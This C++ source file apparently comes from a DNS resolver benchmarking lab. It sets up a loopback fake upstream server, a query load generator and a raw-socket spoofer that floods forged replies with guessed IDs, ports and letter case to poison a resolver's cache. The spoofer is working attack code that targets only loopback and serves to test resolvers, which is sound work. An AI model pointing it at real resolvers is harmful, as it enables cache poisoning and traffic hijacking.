// SPDX-License-Identifier: GPL-3.0-or-later
#include "bench/lab/attack_peers.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <deque>
#include <fstream>
#include <stdexcept>

#include "common/loopback.hpp"
#include "wire/constants.hpp"

namespace dnsarena::bench {

namespace {

using Clock = std::chrono::steady_clock;

using wire::get16;
using wire::put16;

// A UDP socket bound to 127.0.0.1 on a port the kernel picks; its port in *port.
int bound_udp(std::uint16_t* port, bool nonblocking) {
  const int fd = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | (nonblocking ? SOCK_NONBLOCK : 0), 0);
  if (fd < 0) throw std::runtime_error("socket: " + std::string(std::strerror(errno)));
  sockaddr_in a = common::loopback_v4(0);
  socklen_t len = sizeof a;
  if (::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 ||
      ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len) != 0) {
    ::close(fd);
    throw std::runtime_error("bind: " + std::string(std::strerror(errno)));
  }
  if (port) *port = ntohs(a.sin_port);
  return fd;
}

// Length of an uncompressed wire name at p (0 when malformed within len).
std::size_t name_length(const std::uint8_t* p, std::size_t len) {
  std::size_t i = 0;
  while (i < len && p[i] != 0) {
    if (p[i] & 0xC0) return 0;
    i += p[i] + 1u;
  }
  return i < len ? i + 1 : 0;
}

// A reply: header, the question as asked, and one A record (or NXDOMAIN, no records).
std::size_t write_reply(const std::uint8_t* q, std::size_t qlen, std::uint8_t* out, const std::uint8_t* forged) {
  if (qlen < 12) return 0;
  const std::size_t nl = name_length(q + 12, qlen - 12);
  if (nl == 0 || 12 + nl + 4 > qlen) return 0;
  const std::uint16_t qtype = get16(q + 12 + nl);
  const bool a = qtype == 1;
  std::memcpy(out, q, 2);
  put16(out + 2, static_cast<std::uint16_t>(0x8400 | (q[2] & 0x01) << 8 | (a ? 0 : 3)));
  put16(out + 4, 1);
  put16(out + 6, a ? 1 : 0);
  put16(out + 8, 0);
  put16(out + 10, 0);
  std::memcpy(out + 12, q + 12, nl + 4);
  std::size_t n = 12 + nl + 4;
  if (!a) return n;
  const std::uint8_t rr[] = {0xC0, 0x0C, 0, 1, 0, 1, 0, 0, 0x0E, 0x10, 0, 4};
  std::memcpy(out + n, rr, sizeof rr);
  n += sizeof rr;
  const std::array<std::uint8_t, 4> addr = real_address(q + 12, nl);
  std::memcpy(out + n, forged ? forged : addr.data(), 4);
  return n + 4;
}

}  // namespace

std::vector<std::uint8_t> wire_name(const std::string& dotted) {
  std::vector<std::uint8_t> w;
  std::size_t start = 0;
  while (start < dotted.size()) {
    std::size_t dot = dotted.find('.', start);
    if (dot == std::string::npos) dot = dotted.size();
    w.push_back(static_cast<std::uint8_t>(dot - start));
    w.insert(w.end(), dotted.begin() + static_cast<std::ptrdiff_t>(start), dotted.begin() + static_cast<std::ptrdiff_t>(dot));
    start = dot + 1;
  }
  w.push_back(0);
  return w;
}

std::array<std::uint8_t, 4> real_address(const std::uint8_t* name, std::size_t len) {
  std::uint64_t h = 1469598103934665603ull;  // FNV-1a over the lowercase bytes
  for (std::size_t i = 0; i < len; ++i) {
    std::uint8_t c = name[i];
    if (c >= 'A' && c <= 'Z') c = static_cast<std::uint8_t>(c + 32);
    h = (h ^ c) * 1099511628211ull;
  }
  return {10, static_cast<std::uint8_t>(h >> 8), static_cast<std::uint8_t>(h >> 16),
          static_cast<std::uint8_t>(1 + (h >> 24) % 254)};
}

std::vector<std::uint8_t> make_a_query(std::uint16_t id, const std::vector<std::uint8_t>& qname) {
  // QTYPE A, QCLASS IN, then an OPT: root owner, type 41, payload 1232, no options.
  const std::uint8_t tail[] = {0, 1, 0, 1, 0, 0, 41, 0x04, 0xD0, 0, 0, 0, 0, 0, 0};
  std::vector<std::uint8_t> q(12 + qname.size() + sizeof tail, 0);
  put16(q.data(), id);
  put16(q.data() + 2, 0x0100);  // RD
  put16(q.data() + 4, 1);
  put16(q.data() + 10, 1);  // OPT
  std::memcpy(q.data() + 12, qname.data(), qname.size());
  std::memcpy(q.data() + 12 + qname.size(), tail, sizeof tail);
  return q;
}

bool first_a_record(const std::uint8_t* r, std::size_t len, std::array<std::uint8_t, 4>& address) {
  if (len < 12 || get16(r + 4) != 1 || get16(r + 6) == 0) return false;
  const std::size_t nl = name_length(r + 12, len - 12);
  std::size_t i = 12 + nl + 4;
  if (nl == 0 || i > len) return false;
  for (unsigned k = 0; k < get16(r + 6); ++k) {
    // Owner: a pointer or an uncompressed name.
    if (i >= len) return false;
    if ((r[i] & 0xC0) == 0xC0) i += 2;
    else {
      const std::size_t ol = name_length(r + i, len - i);
      if (ol == 0) return false;
      i += ol;
    }
    if (i + 10 > len) return false;
    const std::uint16_t type = get16(r + i), rdlen = get16(r + i + 8);
    i += 10;
    if (i + rdlen > len) return false;
    if (type == 1 && rdlen == 4) {
      std::memcpy(address.data(), r + i, 4);
      return true;
    }
    i += rdlen;
  }
  return false;
}

AuthUpstream::AuthUpstream(unsigned delay_ms) : delay_ms_(delay_ms) {
  fd_ = bound_udp(&port_, false);
  const int buf = 8 << 20;
  ::setsockopt(fd_, SOL_SOCKET, SO_RCVBUFFORCE, &buf, sizeof buf);
  ::setsockopt(fd_, SOL_SOCKET, SO_SNDBUFFORCE, &buf, sizeof buf);
  thread_ = std::thread([this] { loop(); });
}

AuthUpstream::~AuthUpstream() {
  stop_ = true;
  thread_.join();
  ::close(fd_);
}

void AuthUpstream::loop() {
  struct Due {
    Clock::time_point at;
    sockaddr_in to;
    std::vector<std::uint8_t> reply;
  };
  std::deque<Due> due;  // in arrival order: every reply waits the same delay
  std::uint8_t in[4096], out[4096];
  while (!stop_) {
    const auto now = Clock::now();
    while (!due.empty() && due.front().at <= now) {
      const Due& d = due.front();
      ::sendto(fd_, d.reply.data(), d.reply.size(), 0, reinterpret_cast<const sockaddr*>(&d.to), sizeof d.to);
      due.pop_front();
    }
    int wait_ms = 50;
    if (!due.empty())
      wait_ms = static_cast<int>(
          std::chrono::duration_cast<std::chrono::milliseconds>(due.front().at - now).count() + 1);
    pollfd p{fd_, POLLIN, 0};
    if (::poll(&p, 1, std::min(wait_ms, 50)) != 1) continue;
    for (int k = 0; k < 256; ++k) {
      sockaddr_in from{};
      socklen_t fl = sizeof from;
      const ssize_t n = ::recvfrom(fd_, in, sizeof in, MSG_DONTWAIT, reinterpret_cast<sockaddr*>(&from), &fl);
      if (n <= 0) break;
      queries_.fetch_add(1, std::memory_order_relaxed);
      const std::size_t len = write_reply(in, static_cast<std::size_t>(n), out, nullptr);
      if (len == 0) continue;
      if (delay_ms_ == 0) ::sendto(fd_, out, len, 0, reinterpret_cast<sockaddr*>(&from), fl);
      else due.push_back({Clock::now() + std::chrono::milliseconds(delay_ms_), from, {out, out + len}});
    }
  }
}

BlackHole::BlackHole() { fd_ = bound_udp(&port_, true); }
BlackHole::~BlackHole() { ::close(fd_); }

LoadResult run_load(const LoadSpec& spec) {
  constexpr unsigned kSockets = 16;
  struct Sock {
    int fd;
    std::vector<std::int64_t> slot;  // by ID: the query index waiting, -1 none
  };
  std::vector<Sock> socks;
  std::vector<pollfd> pfds;
  const sockaddr_in server = common::loopback_v4(spec.port);
  for (unsigned s = 0; s < kSockets; ++s) {
    const int fd = bound_udp(nullptr, true);
    const int buf = 4 << 20;
    ::setsockopt(fd, SOL_SOCKET, SO_RCVBUFFORCE, &buf, sizeof buf);
    ::connect(fd, reinterpret_cast<const sockaddr*>(&server), sizeof server);
    socks.push_back({fd, std::vector<std::int64_t>(65536, -1)});
    pfds.push_back({fd, POLLIN, 0});
  }
  LoadResult r;
  const auto t0 = Clock::now();
  Clock::time_point last_send = t0;
  std::uint64_t next = 0;
  std::uint8_t buf[65536];
  auto drain = [&] {
    for (Sock& s : socks)
      for (;;) {
        const ssize_t n = ::recv(s.fd, buf, sizeof buf, MSG_DONTWAIT);
        if (n < 12) break;
        const std::uint16_t id = get16(buf);
        const std::int64_t i = s.slot[id];
        if (i < 0) continue;
        s.slot[id] = -1;
        ++r.answered;
        switch (buf[3] & 0x0F) {
          case 0: ++r.noerror; break;
          case 2: ++r.servfail; break;
          case 3: ++r.nxdomain; break;
          case 5: ++r.refused; break;
          default: ++r.other;
        }
        if (spec.on_reply) spec.on_reply(static_cast<std::uint64_t>(i), buf, static_cast<std::size_t>(n));
      }
  };
  const auto send_until =
      t0 + (spec.send_limit.count() > 0
                ? std::chrono::duration_cast<Clock::duration>(spec.send_limit)
                : std::chrono::duration_cast<Clock::duration>(
                      std::chrono::duration<double>(2.0 * static_cast<double>(spec.count) / spec.rate + 10.0)));
  while (next < spec.count && !(spec.stop && spec.stop->load())) {
    const auto now = Clock::now();
    if (now > send_until) break;  // the rest is never sent (not counted as sent)
    auto due = static_cast<std::uint64_t>(std::chrono::duration<double>(now - t0).count() * spec.rate) + 1;
    if (spec.allowed) due = std::min(due, spec.allowed());
    while (next < std::min(due, spec.count)) {
      Sock& s = socks[next % kSockets];
      const auto id = static_cast<std::uint16_t>((next / kSockets) & 0xFFFF);
      // An ID still waiting after 65,536 more queries on its socket stays unanswered: lost.
      const std::vector<std::uint8_t> q = make_a_query(id, spec.name(next));
      if (::send(s.fd, q.data(), q.size(), 0) == static_cast<ssize_t>(q.size())) {
        s.slot[id] = static_cast<std::int64_t>(next);
        ++r.sent;
      }
      ++next;
      if (spec.sent) spec.sent->store(next, std::memory_order_relaxed);
      last_send = Clock::now();
    }
    ::poll(pfds.data(), pfds.size(), 1);
    drain();
  }
  while (r.answered < r.sent && Clock::now() - last_send < spec.timeout) {
    ::poll(pfds.data(), pfds.size(), 10);
    drain();
  }
  for (Sock& s : socks) ::close(s.fd);
  return r;
}

std::uint64_t run_spoofer(std::uint16_t upstream_port, std::uint64_t count, std::chrono::milliseconds limit,
                          const std::function<std::vector<std::uint8_t>(std::uint64_t)>& names,
                          const std::atomic<std::uint64_t>& progress, unsigned window,
                          std::array<std::uint8_t, 4> forged, std::atomic<std::uint64_t>& sent,
                          const std::atomic<bool>& stop) {
  const int fd = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
  if (fd < 0) throw std::runtime_error("spoofer: a raw socket needs CAP_NET_RAW: " + std::string(std::strerror(errno)));
  unsigned lo = 32768, hi = 60999;
  std::ifstream("/proc/sys/net/ipv4/ip_local_port_range") >> lo >> hi;
  const int buf = 8 << 20;
  ::setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &buf, sizeof buf);
  sockaddr_in dst = common::loopback_v4(0);
  constexpr unsigned kBatch = 64;  // one sendmmsg per 64 forged datagrams
  std::uint8_t query[300];
  std::uint8_t dgrams[kBatch][600];
  mmsghdr msgs[kBatch];
  iovec iov[kBatch];
  const auto give_up = Clock::now() + limit;
  while (sent.load(std::memory_order_relaxed) < count && Clock::now() < give_up && !stop.load()) {
    const std::uint64_t done = progress.load(std::memory_order_relaxed);
    if (done == 0) {  // nothing asked yet: nothing to race
      std::this_thread::sleep_for(std::chrono::microseconds(200));
      continue;
    }
    const unsigned n = static_cast<unsigned>(std::min<std::uint64_t>(kBatch, count - sent.load()));
    for (unsigned k = 0; k < n; ++k) {
      // A name the victim was just made to ask, in a random case; a random ID and port.
      const std::uint64_t pick =
          done - 1 - arc4random_uniform(static_cast<std::uint32_t>(std::min<std::uint64_t>(window, done)));
      std::vector<std::uint8_t> qn = names(pick);
      const std::uint32_t bits = arc4random();
      for (std::size_t i = 0; i < qn.size(); ++i)
        if (qn[i] >= 'a' && qn[i] <= 'z' && (bits >> (i % 32) & 1)) qn[i] = static_cast<std::uint8_t>(qn[i] - 32);
      std::memset(query, 0, 12);
      put16(query, static_cast<std::uint16_t>(arc4random()));
      put16(query + 2, 0x0100);
      put16(query + 4, 1);
      std::memcpy(query + 12, qn.data(), qn.size());
      const std::uint8_t tail[] = {0, 1, 0, 1};
      std::memcpy(query + 12 + qn.size(), tail, 4);
      const std::size_t rlen = write_reply(query, 12 + qn.size() + 4, dgrams[k] + sizeof(udphdr), forged.data());
      udphdr h{};
      h.source = htons(upstream_port);
      h.dest = htons(static_cast<std::uint16_t>(lo + arc4random_uniform(hi - lo + 1)));
      h.len = htons(static_cast<std::uint16_t>(sizeof h + rlen));
      std::memcpy(dgrams[k], &h, sizeof h);
      iov[k] = {dgrams[k], sizeof h + rlen};
      std::memset(&msgs[k], 0, sizeof msgs[k]);
      msgs[k].msg_hdr.msg_name = &dst;
      msgs[k].msg_hdr.msg_namelen = sizeof dst;
      msgs[k].msg_hdr.msg_iov = &iov[k];
      msgs[k].msg_hdr.msg_iovlen = 1;
    }
    const int r = ::sendmmsg(fd, msgs, n, 0);
    if (r > 0) sent.fetch_add(static_cast<std::uint64_t>(r), std::memory_order_relaxed);
  }
  ::close(fd);
  return sent.load();
}

}  // namespace dnsarena::bench
